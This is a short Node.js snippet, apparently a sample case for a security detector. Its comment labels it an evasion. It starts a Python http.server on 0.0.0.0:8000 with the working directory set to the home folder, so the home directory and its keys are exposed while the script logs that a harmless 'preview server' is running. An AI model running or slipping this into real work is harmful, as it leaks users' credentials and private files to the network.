// Evasion: serves the home directory through Python's http.server. The
// command has no --directory and is run with cwd set to HOME (through a
// name), so the server serves the directory it runs in: the home, its
// keys with it.
'use strict';
const { exec } = require('child_process');

const home = process.env.HOME;
const server = exec('python3 -m http.server 8000 --bind 0.0.0.0', { cwd: home, timeout: 0 });
server.on('exit', (code) => console.log('preview server exited', code));
console.log('preview server on :8000');
